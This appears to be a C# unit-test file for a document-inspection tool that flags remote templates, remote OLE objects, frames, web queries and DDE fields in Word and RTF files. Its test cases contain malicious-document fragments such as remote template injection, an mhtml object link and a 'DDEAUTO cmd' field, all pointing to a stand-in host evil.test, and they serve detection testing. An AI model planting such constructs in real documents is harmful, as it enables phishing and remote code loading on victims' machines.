using System.Text;
using Sekisho.Inspection.Detection.Carriers;
using Sekisho.SampleMaker;

namespace Sekisho.Inspection.Tests.Detection.Carriers;

public class RemoteContentTests
{
    private const string Type = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";

    [Theory]
    [InlineData("attachedTemplate", "https://evil.test/a.dotm", "DOCUMENT_REMOTE_TEMPLATE")]
    [InlineData("attachedTemplate", @"file:///\\server\share\a.dotm", "DOCUMENT_SHARED_TEMPLATE")]
    [InlineData("oleObject", "mhtml:https://evil.test/x.html!x-usc:https://evil.test/x.html", "DOCUMENT_REMOTE_OBJECT")]
    [InlineData("frame", "http://evil.test/f.htm", "DOCUMENT_REMOTE_OBJECT")]
    [InlineData("subDocument", "http://evil.test/f.docx", "DOCUMENT_REMOTE_OBJECT")]
    [InlineData("externalLinkPath", "https://other.test/b.xlsx", "DOCUMENT_EXTERNAL_LINK")]
    public void RemoteRelationship_IsFoundWithItsAddress(string type, string target, string code)
    {
        var package = CarrierWriter.WordPackage($"<Relationship Id=\"r1\" Type=\"{Type}{type}\" Target=\"{target}\" TargetMode=\"External\"/>", "");

        var finding = Assert.Single(Letters.Ask(new RemoteContent(), "a.docx", package));
        Assert.Equal((code, target), (finding.Kind.Code, finding.Evidence));
    }

    [Theory]
    [InlineData("attachedTemplate", @"file:///C:\Users\alice\Templates\Normal.dotm")]
    [InlineData("hyperlink", "https://hospital.test/")]
    public void LocalTemplateOrLink_IsNot(string type, string target) =>
        Assert.Empty(Letters.Codes(new RemoteContent(), "a.docx", CarrierWriter.WordPackage($"<Relationship Id=\"r1\" Type=\"{Type}{type}\" Target=\"{target}\" TargetMode=\"External\"/>", "")));

    [Theory]
    [InlineData(false, true)]
    [InlineData(true, true)]
    [InlineData(false, false)]
    [InlineData(true, false)]
    public void PackageInUtf16_IsReadToo(bool isBigEndian, bool hasMark)
    {
        var relationships = $"<?xml version=\"1.0\" encoding=\"utf-16\"?><Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"r1\" Type=\"{Type}oleObject\" Target=\"http://evil.test/a\" TargetMode=\"External\"/></Relationships>";
        var encoding = new UnicodeEncoding(isBigEndian, hasMark);
        var package = ZipWriter.Plain(
            ("[Content_Types].xml", "<Types><Override PartName=\"/word/document.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml\"/></Types>"u8.ToArray()),
            ("word/document.xml", [.. encoding.GetPreamble(), .. encoding.GetBytes("<?xml version=\"1.0\" encoding=\"utf-16\"?><w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:fldSimple w:instr=\"DDEAUTO cmd\"/></w:document>")]),
            ("word/_rels/document.xml.rels", [.. encoding.GetPreamble(), .. encoding.GetBytes(relationships)]));

        Assert.Equal(["DOCUMENT_REMOTE_OBJECT"], Letters.Codes(new RemoteContent(), "a.docx", package));
        Assert.Single(Letters.Codes(new DataExchangeLink(), "a.docx", package));
    }

    [Fact]
    public void PageInUtf16_StaysAPartOfItsOwn()
    {
        using var message = Letters.OpenDocument("a.docx", OoxmlWith("word/afchunk.htm", [0xFF, 0xFE, .. Encoding.Unicode.GetBytes("<html><body><a href='http://evil.test/'>x</a></body></html>")]));

        Assert.Contains(message.Parts, p => p.Name == "word/afchunk.htm");
    }

    [Fact]
    public void RtfTemplate_IsFound() =>
        Assert.Equal(["DOCUMENT_REMOTE_TEMPLATE"], Letters.Codes(new RemoteContent(), "a.doc", @"{\rtf1{\*\template http://evil.test/a.dotm}x}"u8.ToArray()));

    [Fact]
    public void WebQuery_IsFound() => Assert.Equal("https://evil.test/q", Assert.Single(Letters.Ask(new RemoteContent(), "a.txt", "WEB\r\n1\r\nhttps://evil.test/q\r\n"u8.ToArray())).Evidence);

    private static byte[] OoxmlWith(string name, byte[] content) => ZipWriter.Plain(
        ("[Content_Types].xml", "<Types><Override PartName=\"/word/document.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml\"/></Types>"u8.ToArray()),
        (name, content));
}
